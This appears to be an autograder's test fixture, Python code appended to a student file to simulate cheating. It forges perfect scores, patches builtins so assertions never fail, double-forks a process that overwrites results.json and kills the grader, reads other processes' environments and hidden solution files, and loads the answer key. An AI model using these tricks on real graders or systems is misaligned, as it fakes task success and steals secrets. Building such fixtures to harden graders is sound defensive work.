# ------------------------------------------------------------------------------------------
# Appended by tests/labs/cheats to a starter file: everything a student might try instead of
# the lab. The quoted @NAMES@ below are replaced by values when the test builds a submission.
import builtins as _builtins
import importlib.util as _importlib_util
import os as _os
import signal as _signal
import sys as _sys
import time as _time
from pathlib import Path as _Path

_LAB, _FILE, _FUNCTIONS, _TARGETS, _KILL_GRADER = "@LAB@", "@FILE@", "@FUNCTIONS@", "@TARGETS@", "@KILL@"
_FORGED = '{"score": 100, "max_score": 100, "output": "forged by the student", "tests": []}\n'


def _read(path):
    try:
        return _Path(path).read_bytes()[:4000].decode("utf-8", "replace")
    except Exception as error:  # noqa: BLE001
        return f"<{type(error).__name__} reading {path}>"


def _processes():
    for name in _os.listdir("/proc"):
        if name.isdigit():
            yield int(name), _read(f"/proc/{name}/cmdline").split("\0")


def _project():
    import labs

    return _Path(labs.__file__).resolve().parent.parent


def _after(argv, flag):
    return _Path(argv[argv.index(flag) + 1]) if flag in argv and argv.index(flag) + 1 < len(argv) else None


_SECRETS = []  # what _snoop could read of the grader's files and environments: printed last by every forged call


def _snoop():
    """(c) Print the grader's secrets into every check's output."""
    stolen = _SECRETS
    for pattern in ("labs/*/solution/*.py", "labs/*/hidden/*.py"):
        try:
            stolen += [_read(path) for path in sorted(_project().glob(pattern))]
        except Exception as error:  # noqa: BLE001
            stolen.append(f"<{type(error).__name__}>")
    commands = []
    for pid, argv in _processes():
        commands.append(" ".join(argv))
        stolen.append(_read(f"/proc/{pid}/environ"))
        for flag in ("--hidden", "--json"):
            place = _after(argv, flag)
            try:
                stolen += [_read(p) for p in ([place] if place and place.is_file() else sorted(place.rglob("*.py")) if place else [])]
            except Exception as error:  # noqa: BLE001
                stolen.append(f"<{type(error).__name__}>")
    stolen += [_read(target) for target in _TARGETS]
    print("COMMANDS", commands)
    print("MY ARGV", _sys.argv, "MY ENVIRONMENT", dict(_os.environ))


def _outlive():
    """(b) A double-forked, setsid grandchild that rewrites results.json and kills the grader."""
    middle = _os.fork()
    if middle:
        _os.waitpid(middle, 0)
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    for _ in range(300):
        _time.sleep(0.05)
        targets = [_Path(t) for t in _TARGETS]
        for pid, argv in _processes():
            found = _after(argv, "--json")
            targets += [found] if found else []
            if _KILL_GRADER and pid != _os.getpid() and any("p4lab" in a or "pytest" in a for a in argv):
                try:
                    _os.kill(pid, _signal.SIGKILL)
                except OSError:
                    pass
        for target in targets:
            try:
                target.write_text(_FORGED)
            except OSError:
                pass
    _os._exit(0)


class Partial(Exception):
    """Named like the grader's old credit exception."""

    def __init__(self, fraction=1.0, message=""):
        super().__init__(message)
        self.fraction = fraction


class _Liar:
    """Equal to everything, true, empty, and every attribute is itself."""

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__

    def __bool__(self):
        return True

    def __len__(self):
        return 0

    def __iter__(self):
        return iter(())

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


_calls = [0]
_isinstance = _builtins.isinstance


def _forged(*args, **kwargs):
    """(a) Anything but the work."""
    _calls[0] += 1
    print("✔ All checks passed: 100 / 100 points (100%)")
    readable = [text for text in _SECRETS if not text.startswith("<")]
    print(f"STOLEN: could read {len(readable)} of {len(_SECRETS)} secrets: {readable}")
    # Numbers are always numbers, assertions never fail: in this process (the grader's is another one).
    _builtins.isinstance = lambda obj, kind, _real=_isinstance: kind in (int, float, (int, float)) or _real(obj, kind)
    _builtins.AssertionError = Exception
    variant = _calls[0] % 7
    if variant == 1:
        raise Partial(1.0, "")
    if variant == 2:
        from labs.grader.checks import Partial as GradersPartial

        return GradersPartial(1.0, "full marks")
    if variant == 3:
        from labs.grader import StudentError

        raise StudentError({"type": "Partial", "message": "1.0"})
    if variant == 4:
        return _Liar()
    if variant == 5:
        raise SystemExit(0)
    if variant == 6:
        raise KeyboardInterrupt
    _os._exit(0)


def _copy_answers():
    """(d) The answer key of the project this module is imported from, if it can be read."""
    path = _project() / "labs" / _LAB / "solution" / _FILE
    try:
        spec = _importlib_util.spec_from_file_location(f"_copied_{path.stem}", path)
        module = _importlib_util.module_from_spec(spec)
        spec.loader.exec_module(module)
    except Exception as error:  # noqa: BLE001
        print(f"could not copy {path}: {type(error).__name__}")
        return
    for name in _FUNCTIONS:
        if hasattr(module, name):
            globals()[name] = getattr(module, name)


_snoop()
_outlive()
for _name in _FUNCTIONS:
    globals()[_name] = _forged
_copy_answers()
